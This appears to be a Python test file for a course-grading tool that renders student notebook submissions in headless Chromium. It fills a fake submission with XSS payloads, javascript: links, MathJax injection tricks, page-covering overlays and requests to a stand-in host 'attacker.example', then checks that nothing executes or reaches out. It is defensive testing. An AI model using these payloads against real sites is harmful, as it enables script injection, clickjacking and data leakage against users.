"""A browser whose every request is seen, and a page of a submission that tries all it can there."""

import contextlib
import os
import re
import socket
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from coursekit.submit.pdf import find_browser

PLACE = "attacker.example"
SET_TITLE = "document.title='taken over'"
JAVASCRIPT = f"javascript:{SET_TITLE}"
FORMULAS = [  # that make links, styles, rules or spaces of any size, by every way of writing one
    rf"\href{{{JAVASCRIPT}}}{{x}}",
    rf"\mmlToken{{mi}}[href='{JAVASCRIPT}' style='position:fixed;top:0;left:0;font-size:900px']{{x}}",
    r"\style{position:fixed;top:0;left:0;width:100%;height:100%;background:red}{x}",
    rf"\def\x{{\hre}}\newcommand{{\go}}{{\href{{{JAVASCRIPT}}}{{x}}}}\go",
    r"\cssId{toc}{\class{panel-heading navbar-fixed-top}{x}}",
    r"\require{html}\bbox[position:fixed;padding:900px,red]{x}\unicode[serif]{65}",
    r"\color{red}{\rule{900em}{900em}}\llap{\rule{900em}{900em}}\kern-900em\raise400em{\rule{90em}{90em}}",
    r"\begin{array}{c}a\\[-400em]\rule{90em}{90em}\end{array}\hspace{-400em}\Large x",
    r"\begin{align}a\\  * [-400em] b\end{align}" + r"\!" * 900 + "x",
    rf"\toggle{{x}}{{y}}\endtoggle\texttip{{x}}{{{SET_TITLE}}}\let\a=\href \a{{{JAVASCRIPT}}}{{x}}",
    "x^{" * 60 + "x" + "}" * 60,
]
SOLVED = r"\frac{1}{n} \sum_i \log D(x_i) + \mathbb{E}_{z \sim \mathcal{N}(0, I)} [\log(1 - D(G(z)))]"
COVER = """
<a class="navbar navbar-fixed-top btn-block modal in" href="https://attacker.example/a" id="toc"
 style="position:fixed;opacity:0">x</a><div class="modal-backdrop in"></div><a href="/formgrader/x">a</a>
<a href="//attacker.example">b</a><a href="?x=1">c</a><a href="javascript&colon;alert(1)">d</a>
<a href=" &#1;javascript:x">e</a><a href="data:text/html,x">f</a>
<a href="vbscript:x" target="_top" download ping="/x">g</a><a href="https:x">h</a>
<a href="#top">i</a><a href="ftp://x">j</a><a href="\thttp://x">k</a><img src="/formgrader">
<img src="data:image/svg+xml;base64,AA">
<map name="m"><area href="/y" shape="default"></map><img usemap="#m" src="data:image/png;base64,aGFsbG8=" width=9999>
<button autofocus formaction="/z">l</button><form id=f action="/q"></form><input form=f type=image><marquee>m</marquee>
<font size=900 color=red>n</font><bdo dir=rtl>o</bdo><svg><a xlink:href="/v"><text>p</text></a></svg><link rel=prefetch>
<math href="/w"><mtext href="/w">q</mtext></math><dialog open>r</dialog><template><a href="/t">s</a></template>
</div></div></div></details></td></table></body><!-- <![CDATA[ --><p>\u202eafter\u2066<a href="https://attacker.example/b">t
"""
EVIL = f"""
<script>{SET_TITLE}</script><script src="http://{PLACE}/s.js"></script>
<img src="x" onerror="{SET_TITLE}"><img src="http://{PLACE}/pixel.png"><svg onload="{SET_TITLE}"></svg>
<iframe src="http://{PLACE}/frame" srcdoc="<script>parent.{SET_TITLE}</script>"></iframe>
<style>@import url("http://{PLACE}/style.css"); body {{ background: url(http://{PLACE}/background.png) }}</style>
<link rel="stylesheet" href="http://{PLACE}/link.css"><object data="http://{PLACE}/object"></object>
<video autoplay src="http://{PLACE}/video"></video><base href="http://{PLACE}/"><details open ontoggle="{SET_TITLE}">
<meta http-equiv="refresh" content="0; url=http://{PLACE}/moved"><input autofocus onfocus="{SET_TITLE}">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SET_TITLE}&gt;">
"""
TYPESET = "\n\n".join(f"${formula}$ $${formula}$$" for formula in FORMULAS)
MARKDOWN = f"""{EVIL}

{COVER}

{TYPESET}

\\begin{{equation}}\\href{{{JAVASCRIPT}}}{{x}}\\end{{equation}} $\\hre<wbr>f{{{JAVASCRIPT}}}{{x}}$ $${SOLVED}$$

[i]: /formgrader/there
[by reference][i] ![gone](attachment:gone.png) <https://attacker.example/shown> {"w" * 5000}

![picture](http://{PLACE}/markdown.png) [link](javascript:{SET_TITLE}) <javascript:{SET_TITLE}>

$$\\href{{javascript:{SET_TITLE}}}{{x}}$$ `` `<script>{SET_TITLE}</script>` ``
"""
CODE = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
evil = {EVIL!r}
for kind in (HTML, Markdown, Latex):
    display(kind(evil))
    display(kind({COVER!r}))
    display(kind({TYPESET!r}))
display(Latex({f"$${SOLVED}$$"!r}))
print({TYPESET!r}, "\\x1b[31mred\\x1b[2J\\x1b]0;{SET_TITLE}\\x07", "w" * 9999)
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{SET_TITLE}\\"><script>{SET_TITLE}</script></svg>"))
display(Javascript("{SET_TITLE}"))
many = {{"text/html": evil, "application/javascript": "{SET_TITLE}", "image/png": "\\"><script>{SET_TITLE}</script>"}}
display(many, raw=True)
print(evil)
raise ValueError("\\x1b]8;;javascript:{SET_TITLE}\\x07" + evil)
"""

OUTPUTS = [  # as they may stand in the file that is handed in
    *(nbformat.v4.new_output("display_data", {kind: EVIL + COVER}) for kind in ("text/html", "text/markdown")),
    nbformat.v4.new_output("display_data", {"text/html": COVER}),
    nbformat.v4.new_output("display_data", {"text/latex": TYPESET}),
    nbformat.v4.new_output("display_data", {"image/png": f'"><script>{SET_TITLE}</script>', "image/svg+xml": EVIL}),
    nbformat.v4.new_output("stream", text=f"\x1b[31m\u202e{TYPESET}{EVIL}{'w' * 9999}"),
    nbformat.v4.new_output("error", ename=EVIL, evalue=COVER, traceback=[EVIL]),
]

QUOTED = f"""
def configure_optimizers(model, lr):
    raise ValueError(({FORMULAS[0]!r} + " $" + {FORMULAS[2]!r} + "$ \\u202e <b>bold</b>" + {COVER!r}))
"""


@dataclass
class Proxy:
    """Every request of a browser arrives here, and is refused."""

    port: int
    asked: list[str] = field(default_factory=list)


@contextlib.contextmanager
def refuse_all() -> Iterator[Proxy]:
    """A proxy that answers nothing but that there is nothing."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        made = Proxy(server.getsockname()[1])

        def answer() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    connection.settimeout(1)  # browsers open connections before they need them
                    with connection, contextlib.suppress(OSError):
                        made.asked.append(connection.recv(4096).split(b"\r\n")[0].decode(errors="replace"))
                        connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

        thread = threading.Thread(target=answer)
        thread.start()
        yield made
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def show(page: Path, proxy: Proxy, profile: Path) -> str:
    """The page's document after its scripts had five seconds of the browser's time."""
    browser = find_browser()
    assert browser, "these tests need Chromium or Chrome: make setup"
    command = [browser, "--headless", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--dump-dom"]
    command += [f"--user-data-dir={profile}", "--virtual-time-budget=5000", f"--proxy-server=127.0.0.1:{proxy.port}"]
    command += ["--proxy-bypass-list=<-loopback>", *(["--no-sandbox"] if os.geteuid() == 0 else []), page.as_uri()]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout


# For each score of the page, whether a click on it meets something else than the page's own heading.
LOOK = """<script>
const look = () => {
  const scores = [...document.querySelectorAll("#toc li, .panel-heading .pull-right, .number, .said")];
  const covered = scores.filter((score) => {
    score.scrollIntoView({ block: "center" });
    const box = score.getBoundingClientRect();
    const met = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
    return !score.contains(met);
  });
  document.body.setAttribute("data-looked", `${scores.length} scores, ${covered.length} covered`);
};
addEventListener("load", () => setTimeout(() => window.MathJax ? MathJax.Hub.Queue(look) : look(), 1000));
</script>"""


def without_policy(page: Path) -> str:
    """So that the tests can put a script of their own into the page; nothing may hang on the policy alone."""
    text, replaced = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page.read_text())
    assert replaced == 1
    return text
